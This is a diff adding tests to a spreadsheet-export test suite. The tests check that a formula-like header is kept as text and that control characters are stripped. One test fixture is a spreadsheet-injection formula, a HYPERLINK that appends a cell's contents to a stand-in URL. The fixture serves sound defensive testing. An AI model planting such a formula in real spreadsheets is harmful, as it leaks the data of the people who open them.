@@ -26,6 +26,21 @@ def test_export_keeps_text_that_looks_like_a_formula_as_text():
     assert (cell.value, cell.data_type) == ("=1+1", "s")
 
 
+def test_export_keeps_a_header_that_looks_like_a_formula_as_text():
+    header = ['=HYPERLINK("http://example.invalid/?"&A2,"x")', "名称"]
+    response = workbook_response("a.xlsx", [("s", header, [["x", "y"]])])
+
+    cell = load_workbook(io.BytesIO(response.content)).active["A1"]
+    assert (cell.value, cell.data_type) == (header[0], "s")
+
+
+def test_export_drops_control_characters_a_sheet_cannot_hold():
+    response = workbook_response("a.xlsx", [("s", ["名\x01称"], [["a\x0bb\x1f"]])])
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert (sheet["A1"].value, sheet["A2"].value) == ("名称", "ab")
+
+
 def test_read_checked_reports_a_repeated_column(db):
     upload = xlsx_upload(["名称", "代码", "代码"], [["甲", "1", "2"]])
 
